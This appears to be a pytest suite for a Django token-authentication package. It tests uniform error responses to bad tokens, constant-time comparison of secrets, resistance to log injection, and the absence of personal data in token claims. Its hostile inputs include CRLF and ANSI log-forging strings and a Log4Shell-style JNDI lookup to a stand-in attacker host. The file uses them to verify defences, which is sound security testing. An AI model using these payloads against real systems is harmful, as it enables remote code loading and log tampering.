"""What could be learned or written by a side door: answers, times, log lines, the claims."""

from __future__ import annotations

import ast
import json
import logging
import re
from http import HTTPStatus
from pathlib import Path

import pytest
from django.contrib.auth import get_user_model
from django.utils import crypto
from jwt import algorithms

import django_tokenauth
from django_tokenauth.models import Session
from django_tokenauth.services import clients
from django_tokenauth.sessions import users
from tests.support.client import BARE, INVALID_GRANT, INVALID_TOKEN, get, logged, post, sign_in
from tests.support.clock import NOW, after
from tests.support.raw_tokens import Access, base64url, derived_secret, hmac_with, unbase64url

PACKAGE = Path(django_tokenauth.__file__).parent


def forger(settings):
    """Makes tokens as the server does: with its key, and the name of that."""
    forger = Access()
    forger.sign = hmac_with(derived_secret(settings.SECRET_KEY.encode(), "access token"))
    forger.kid = json.loads(unbase64url(sign_in()["access_token"].split(".")[0]))["kid"]
    return forger


@pytest.fixture
def _now(time_machine):
    time_machine.move_to(NOW, tick=False)


@pytest.mark.attack(175)
@pytest.mark.django_db
class TestOneAnswer:
    """Whatever is wrong with a token is wrong in the same words."""

    def test_of_the_api(self, alice, settings, time_machine, caplog):
        time_machine.move_to(NOW, tick=False)
        good, revoked = sign_in(), sign_in()
        post("token/revoke/", {"token": revoked["refresh_token"]})
        made = forger(settings)
        times = {"iat": int(NOW.timestamp()), "exp": int(NOW.timestamp()) + 60}
        members = {**made.members(), **times}
        access = good["access_token"]
        # What is refused below is refused for what is wrong there.
        sid = json.loads(unbase64url(access.split(".")[1]))["sid"]
        mine = {**members, "sub": str(alice.pk), "sid": sid}
        assert get("/who/", made.token(payload=mine)).status_code == HTTPStatus.OK
        bad = {
            "malformed": [f"{access}.", f"{access}=", "x", "", "." * 10],
            "header": [made.token({**made.header(), "crit": ["exp"]}, members)],
            "typ": [good["refresh_token"], made.token({**made.header(), "typ": "JWT"}, members)],
            "key": [made.token({**made.header(), "kid": "unknown"}, members)],
            "signature": [f"{access.rpartition('.')[0]}.{base64url(bytes(32))}"],
            "claims": [made.token(payload={**members, "exp": "tomorrow"})],
            "issuer": [made.token(payload={**members, "iss": "another"})],
            "audience": [made.token(payload={**members, "aud": "another"})],
            "expired": [made.token(payload={**members, "iat": 1, "exp": 2})],
            "not_yet_valid": [made.token(payload={**members, "nbf": times["iat"] + 9})],
            "revoked": [revoked["access_token"], made.token(payload=members)],
        }
        caplog.clear()
        caplog.set_level(logging.INFO, "django_tokenauth")
        answers = [get("/who/", token) for tokens in bad.values() for token in tokens]
        assert {answer.status_code for answer in answers} == {HTTPStatus.UNAUTHORIZED}
        assert {answer.headers["WWW-Authenticate"] for answer in answers} == {INVALID_TOKEN}
        assert len({(answer.content, str(answer.headers)) for answer in answers}) == 1
        # The log knows them apart.
        assert logged(caplog) == [
            f"access token rejected: {code}" for code, tokens in bad.items() for _ in tokens
        ]

    def test_of_the_token_endpoint(self, alice, time_machine):
        time_machine.move_to(NOW, tick=False)
        old, new = sign_in()["refresh_token"], sign_in()["refresh_token"]
        revoked = sign_in()["refresh_token"]
        post("token/revoke/", {"token": revoked})
        time_machine.move_to(after(days=20), tick=False)
        late = sign_in()["refresh_token"]
        _, second = late, post("token/refresh/", {"refresh_token": late}).json()["refresh_token"]
        post("token/refresh/", {"refresh_token": second})
        bad = [old, revoked, late, f"{new}x", f"{new}.", "x", sign_in()["access_token"]]
        answers = [post("token/refresh/", {"refresh_token": token}) for token in bad]
        assert [answer.json() for answer in answers] == [INVALID_GRANT] * len(bad)
        assert {answer.status_code for answer in answers} == {HTTPStatus.BAD_REQUEST}
        assert len({str(answer.headers) for answer in answers}) == 1


# Names of what must not be compared letter by letter, where the time tells how many were right.
SECRET = re.compile(r"(hash|hashes|digest|mac|signature|secret|password|token|encoded)\Z")


def names_of(side):
    """The names of an operand, or of all operands in it."""
    return {named(item) for item in getattr(side, "elts", [side])}


def named(node):
    """What an operand is called: the last name in it."""
    if isinstance(node, ast.Call):
        return named(node.func)
    if isinstance(node, ast.Subscript):
        return named(node.value)
    return getattr(node, "attr", getattr(node, "id", ""))


def comparisons_of_secrets(source):
    """Where ``source`` compares a secret with something other than itself or a constant."""
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Compare) and isinstance(
            node.ops[0], (ast.Eq, ast.NotEq, ast.In, ast.NotIn)
        ):
            sides = (node.left, node.comparators[0])
            names = names_of(sides[0]) | names_of(sides[1])
            constant = any(isinstance(side, ast.Constant) for side in sides)
            if len(names) > 1 and not constant and any(map(SECRET.search, names)):
                yield ast.unparse(node)


def calls_in(module, *path):
    """The names of what the function at ``path`` (names of a class and of its method) calls."""
    node = ast.parse(Path(module.__file__).read_text(encoding="utf-8"))
    for name in path:
        [node] = [inner for inner in node.body if getattr(inner, "name", "") == name]
    return {named(inner) for inner in ast.walk(node) if isinstance(inner, ast.Call)}


@pytest.mark.attack(176)
class TestTime:
    """No test can measure it; but what compares in constant time can be read."""

    def test_nothing_in_the_package_compares_a_secret_letter_by_letter(self):
        for path in PACKAGE.rglob("*.py"):
            found = list(comparisons_of_secrets(path.read_text(encoding="utf-8")))
            assert found == [], path.name

    @pytest.mark.parametrize(
        "line",
        [
            "auth_hash(user) == stored",
            "session.auth_hash != known",
            "expected == compact.signature",
            "given in (password, other)",
            "stored in hashes",
            "mac[:16] == tag",
        ],
    )
    def test_such_a_line_is_found(self, line):
        assert list(comparisons_of_secrets(f"if {line}:\n    pass")) == [line]

    def test_signatures_with_secrets_are_compared_by_the_standard_library(self):
        """PyJWT does it, and EdDSA, ECDSA and RSA signatures are no secrets."""
        assert "compare_digest" in calls_in(algorithms, "HMACAlgorithm", "verify")

    def test_so_are_the_hashes_of_passwords_in_sessions(self):
        assert "constant_time_compare" in calls_in(users, "has_auth_hash")
        assert "compare_digest" in calls_in(crypto, "constant_time_compare")

    def test_client_secrets_are_compared_by_the_standard_library(self):
        assert "compare_digest" in calls_in(clients, "has_valid_secret")


EVIL = [
    "\r\nINFO user 1 signed in, session 0",
    "\n",
    "\x1b[2J\x1b[31mall is well",
    "\x9b31m",
    "\u2028INFO",
    "\u202egnol",
    "%s %(user)s {0} ${jndi:ldap://evil.example.com}",
    "x" * 4000,
]


@pytest.mark.attack(177)
@pytest.mark.usefixtures("_now")
@pytest.mark.django_db
@pytest.mark.parametrize("text", EVIL, ids=lambda text: ascii(text)[:20])
class TestLogLines:
    """What comes from outside is in no line of the log, so it can write none and change none."""

    @pytest.fixture(autouse=True)
    def _everything(self, caplog):
        caplog.set_level(logging.DEBUG, "django_tokenauth")

    def check(self, caplog, text):
        lines = logged(caplog)
        assert lines
        assert not [line for line in lines if text in line or not line.isprintable()]
        assert max(map(len, lines)) < 200

    @pytest.mark.parametrize("where", ["kid", "alg", "typ", "iss", "sub", "sid", "jti", "aud"])
    def test_from_a_token_that_is_signed(self, alice, text, where, settings, caplog):
        made = forger(settings)
        times = {"iat": int(NOW.timestamp()), "exp": int(NOW.timestamp()) + 60}
        header, members = made.header(), {**made.members(), **times}
        (header if where in header else members)[where] = text
        for path in ("/who/", "/who/stateless/"):
            get(path, made.token(header, members))
        post("token/refresh/", {"refresh_token": made.token(header, members)})
        self.check(caplog, text)

    def test_from_who_signs_in(self, alice, text, caplog):
        for name in (text[:200], f"alice{text[:99]}"):
            post("token/", {"username": name, "password": "wrong"})
        headers = {"User-Agent": text}
        named, labelled, plain = (
            post("token/", {**body, "username": "alice", "password": "correct horse"}, **headers)
            for body in ({"name": text[:99]}, {"client_id": text[:255]}, {})
        )
        assert labelled.status_code == (200 if text[:255].strip().isprintable() else 400)
        for answer in filter(lambda each: each.status_code == 200, (named, labelled, plain)):
            token = answer.json()["refresh_token"]
            post("token/refresh/", {"refresh_token": token, "client_id": f"{text[:99]}."})
            post("token/refresh/", {"refresh_token": token, "scope": text[:99]})
            post("token/revoke/", {"token": token})
        assert Session.objects.filter(revoked_at=None).count() == 0
        self.check(caplog, text)

    def test_from_a_header(self, alice, text, caplog):
        for scheme in ("Bearer ", "bearer\t", "Bearer"):
            answer = get("/who/", Authorization=f"{scheme}{text}")
            assert answer.headers["WWW-Authenticate"] in (BARE, INVALID_TOKEN)
        self.check(caplog, text)


@pytest.mark.attack(178)
@pytest.mark.usefixtures("_now")
@pytest.mark.django_db
class TestClaims:
    """Tokens are signed and not encrypted: who holds one reads it."""

    ACCESS = {
        *("iss", "aud", "sub", "client_id", "iat", "exp", "jti"),
        *("sid", "scope", "auth_time", "amr"),
    }
    REFRESH = {"iss", "aud", "sub", "sid", "gen", "iat", "exp"}

    @pytest.mark.parametrize("stateless", [False, True])
    def test_they_name_nobody(self, settings, stateless):
        settings.TOKENAUTH = {"SCOPES": ["notes:read"], "STATELESS_REFRESH": stateless}
        user = get_user_model().objects.create_user(
            "alice",
            "alice@example.com",
            "correct horse",
            first_name="Alicia",
            last_name="Smith",
            is_staff=True,
        )
        answer = post(
            "token/",
            {"username": "alice", "password": "correct horse", "name": "Alice's telephone"},
            **{"User-Agent": "Navigator/1.0", "X-Forwarded-For": "192.0.2.44"},
        )
        read = {
            kind: unbase64url(answer.json()[f"{kind}_token"].split(".")[1]).decode()
            for kind in ("access", "refresh")
        }
        names = {kind: set(re.findall(r'"([a-z_]+)":', text)) for kind, text in read.items()}
        start = {"auth_time", "client_id", "scope", "amr"}
        assert names["access"] == self.ACCESS - ({"sid"} if stateless else set())
        assert names["refresh"] == self.REFRESH | (start if stateless else set())
        person = [user.password, user.get_session_auth_hash(), *user.password.split("$")[1:]]
        person += ["lice", "Smith", "example.com", "telephone", "Navigator", "192.0.2", "127.0.0"]
        assert not [text for text in person for told in read.values() if text in told]
